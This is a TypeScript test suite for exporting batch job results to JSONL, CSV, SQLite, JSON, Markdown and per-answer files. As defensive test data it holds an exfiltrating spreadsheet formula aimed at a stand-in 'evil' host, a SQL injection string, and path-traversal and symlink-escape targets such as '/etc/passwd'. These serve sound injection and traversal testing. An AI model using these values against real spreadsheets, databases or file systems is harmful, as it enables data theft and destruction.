import assert from "node:assert/strict";
import { mkdirSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
import path from "node:path";
import { DatabaseSync } from "node:sqlite";
import { parse } from "csv-parse/sync";
import { describe, it } from "mocha";
import type { Exported, ExportFormat, ExportRequest } from "../../src/contracts/exportTasks.ts";
import { createTasks } from "../../src/worker/createTasks.ts";
import { useTemporaryFolders } from "../node/temporaryFolder.ts";
import { everyRow, indexAnew } from "./allRows.ts";
import { JobOnDisk } from "./jobOnDisk.ts";
import { errored, requestLine, resultOf, succeeded, writeTree } from "./samples.ts";

const later = Date.UTC(2999, 0);

describe("exporting results", () => {
  const temporaryFolder = useTemporaryFolders();

  /** A collected job, and a way to export it into the folder `out`. */
  async function jobOf(lines: readonly string[], results: readonly string[]) {
    const root = temporaryFolder();
    const out = path.join(root, "out");
    mkdirSync(out);
    const job = await JobOnDisk.create(root, "j1", lines);
    await job.collect(0, results);
    await indexAnew(root, "j1");
    const request = (format: ExportFormat, more: Partial<ExportRequest>): ExportRequest => ({
      job: "j1",
      rows: { filter: everyRow },
      format,
      to: format === "files" ? out : path.join(out, `results.${format}`),
      label: "A job",
      base: root,
      roots: [root],
      sentAt: later,
      overwrite: false,
      ...more,
    });
    return {
      root,
      out,
      files: () => readdirSync(out, { recursive: true }).map(String).toSorted(),
      read: (name: string) => readFileSync(path.join(out, name), "utf8"),
      stream: (format: ExportFormat, more: Partial<ExportRequest> = {}) =>
        createTasks(root).exportRows(request(format, more)),
      export: (format: ExportFormat, more: Partial<ExportRequest> = {}): Promise<Exported> =>
        resultOf(createTasks(root).exportRows(request(format, more))),
    };
  }

  const ids = ["a", "b", "c"];
  const threeLines = ids.map((id) => requestLine(id));

  it("gives results byte for byte in the order of the requests, each once", async () => {
    const odd = succeeded("a", "Ä \u2028 line").replace('{"custom_id"', '{ "custom_id"');
    const b = errored("b", "api_error", "It broke");
    const job = await jobOf(threeLines, [b, `${odd}\r`, succeeded("a", "again")]);
    assert.deepEqual(await job.export("jsonl"), { rows: 2, files: 1, left: 1, notes: [] });
    assert.equal(job.read("results.jsonl"), `${odd}\n${b}\n`);
  });

  it("gives what the filter shows, or some rows", async () => {
    const job = await jobOf(
      threeLines,
      ids.map((id) => succeeded(id, `Answer ${id}`)),
    );
    const filter = { outcomes: [], text: "answer b" };
    await job.export("jsonl", { rows: { filter } });
    assert.equal(job.read("results.jsonl"), `${succeeded("b", "Answer b")}\n`);
    await job.export("jsonl", { rows: { seqs: [2, 0] }, overwrite: true });
    assert.match(job.read("results.jsonl"), /"a".*\n.*"c".*\n$/);
  });

  it("is a table that no spreadsheet runs, with a mark for Excel", async () => {
    const formula = '=HYPERLINK("http://evil/?"&A1,"x")\r\nand, "more"';
    const job = await jobOf(threeLines, [succeeded("a", formula), succeeded("b", '{"n": -1}')]);
    await job.export("csv");
    const text = job.read("results.csv");
    assert.ok(text.startsWith("\uFEFFcustom_id,"));
    const rows: Record<string, string>[] = parse(text, { bom: true, columns: true });
    assert.deepEqual(
      rows.map(({ custom_id, outcome, answer, n, output_tokens }) => [
        custom_id,
        outcome,
        answer,
        n,
        output_tokens,
      ]),
      [
        ["a", "answered", `'${formula}`, "", "20"],
        ["b", "answered", '{"n": -1}', "-1", "20"],
        ["c", "missing", "", "", ""],
      ],
    );
  });

  it("says which answers are longer than a cell of Excel", async () => {
    const long = "x".repeat(40_000);
    const job = await jobOf(threeLines, [succeeded("a", long), succeeded("b", "B")]);
    const { notes } = await job.export("csv");
    assert.equal(notes.length, 1);
    assert.match(notes[0] ?? "", /^1 row has a text of more than 32,767 characters/);
    assert.ok(job.read("results.csv").includes(long), "all of it is there");
    assert.deepEqual((await job.export("json")).notes, []);
  });

  it("has the columns of the table beside the answers, from a file that is as it was", async () => {
    const about = (id: string, row: number): string =>
      requestLine(id, { about: { path: "data/p.csv", row } });
    const job = await jobOf(
      [about("x", 2), about("y", 1), requestLine("z", { about: { path: "../p.csv", row: 1 } })],
      [succeeded("x", '{"name": "Lampe"}'), succeeded("y", "?"), succeeded("z", "?")],
    );
    writeTree(job.root, { "data/p.csv": "name,price\nChair,10\nLamp,20\n", "../p.csv": "s\n1\n" });
    const { notes } = await job.export("csv");
    assert.deepEqual(notes, ["The columns of ../p.csv are left out: it is not in the workspace."]);
    const rows: Record<string, string>[] = parse(job.read("results.csv"), {
      bom: true,
      columns: true,
    });
    assert.deepEqual(
      rows.map(({ name, price, answer_name }) => [name, price, answer_name]),
      [
        ["Lamp", "20", "Lampe"],
        ["Chair", "10", ""],
        ["", "", ""],
      ],
    );
    const changed = await job.export("json", { sentAt: 1 });
    assert.match(changed.notes.join(" "), /p\.csv are left out: it was changed since it was sent/);
    assert.doesNotMatch(job.read("results.json"), /"price"/);
  });

  it("is a database", async () => {
    const job = await jobOf(threeLines, [
      succeeded("b", '{"answer": 1, "Custom_ID": 2}'),
      succeeded("a", "Robert'); DROP TABLE answers;--"),
    ]);
    await job.export("sqlite");
    const database = new DatabaseSync(path.join(job.out, "results.sqlite"), { readOnly: true });
    try {
      const rows = database
        .prepare(
          'SELECT custom_id, outcome, answer_answer, "answer_Custom_ID", output_tokens FROM answers',
        )
        .all();
      assert.deepEqual(
        rows.map((row) => Object.values(row)),
        [
          ["a", "answered", null, null, 20],
          ["b", "answered", 1, 2, 20],
          ["c", "missing", null, null, null],
        ],
      );
    } finally {
      database.close();
    }
    assert.deepEqual(job.files(), ["results.sqlite"]);
  });

  it("is JSON, also of no rows, and Markdown", async () => {
    const job = await jobOf(threeLines, [succeeded("a", "# Fine\n\ntext")]);
    await job.export("json");
    const rows = JSON.parse(job.read("results.json")) as { custom_id: string; answer?: string }[];
    assert.deepEqual(
      rows.map(({ custom_id, answer }) => [custom_id, answer]),
      [
        ["a", "# Fine\n\ntext"],
        ["b", undefined],
        ["c", undefined],
      ],
    );
    await job.export("json", { rows: { seqs: [] }, overwrite: true });
    assert.deepEqual(JSON.parse(job.read("results.json")), []);
    await job.export("markdown");
    assert.match(job.read("results.markdown"), /^# A job\n\n## a\n\na · answered .*\n\n# Fine/);
  });

  it("is one file an answer, next to its source and never outside the folder", async () => {
    const about = (id: string, place: string): string =>
      requestLine(id, { about: { path: place } });
    const places = ["src/a.ts", "../../escape.ts", "/etc/passwd", "C:\\x.ts"];
    const job = await jobOf(
      places.map((place, at) => about(`r${at}`, place)),
      places.map((_, at) => succeeded(`r${at}`, at === 0 ? '{"a":1}' : "text")),
    );
    assert.deepEqual(await job.export("files"), { rows: 4, files: 4, left: 0, notes: [] });
    assert.deepEqual(
      job.files().filter((name) => /\.(?:md|json)$/.test(name)),
      [
        path.join("C-", "x.ts.answer.md"),
        "escape.ts.answer.md",
        path.join("etc", "passwd.answer.md"),
        path.join("src", "a.ts.answer.json"),
      ],
    );
    assert.equal(job.read("src/a.ts.answer.json"), '{\n  "a": 1\n}\n');
  });

  it("refuses a link that leads out of the folder, and leaves nothing", async () => {
    const about = (place: string): string =>
      requestLine(place.slice(0, 1), { about: { path: place } });
    const job = await jobOf(
      [about("a.ts"), about("link/b.ts")],
      [succeeded("a", "1"), succeeded("l", "2")],
    );
    mkdirSync(path.join(job.root, "outside"));
    symlinkSync(path.join(job.root, "outside"), path.join(job.out, "link"), "junction");
    await assert.rejects(job.export("files"), /leads out of the chosen folder/);
    assert.deepEqual(job.files(), ["link"]);
    assert.deepEqual(readdirSync(path.join(job.root, "outside")), []);
  });

  it("overwrites nothing unless it may, and never a folder", async () => {
    const job = await jobOf(
      threeLines,
      ids.map((id) => succeeded(id, `New ${id}`)),
    );
    writeTree(job.out, { "b.answer.md": "mine", "results.csv": "mine" });
    await assert.rejects(job.export("csv"), { kind: "conflict" });
    await assert.rejects(job.export("files"), /b\.answer\.md exists already/);
    assert.deepEqual(job.files(), ["b.answer.md", "results.csv"]);
    assert.equal(job.read("results.csv") + job.read("b.answer.md"), "minemine");
    await job.export("files", { overwrite: true });
    assert.equal(job.read("b.answer.md"), "New b\n");
    const other = path.join(job.out, "other");
    mkdirSync(path.join(other, "a.answer.md"), { recursive: true });
    await assert.rejects(job.export("files", { to: other, overwrite: true }), { kind: "conflict" });
    assert.deepEqual(readdirSync(other), ["a.answer.md"]);
  });

  it("leaves nothing when it is left early", async () => {
    // More than a slice of work, so that there is progress to leave at.
    const answer = JSON.stringify({ text: "x".repeat(10_000) });
    const many = Array.from({ length: 4000 }, (_, at) => `r${at}`);
    const job = await jobOf(
      many.map((id) => requestLine(id)),
      many.map((id) => succeeded(id, answer)),
    );
    for (const format of ["jsonl", "csv", "sqlite", "files"] as const) {
      for await (const { kind } of job.stream(format)) {
        assert.equal(kind, "progress", format);
        break;
      }
      assert.deepEqual(job.files(), [], format);
    }
  });
});
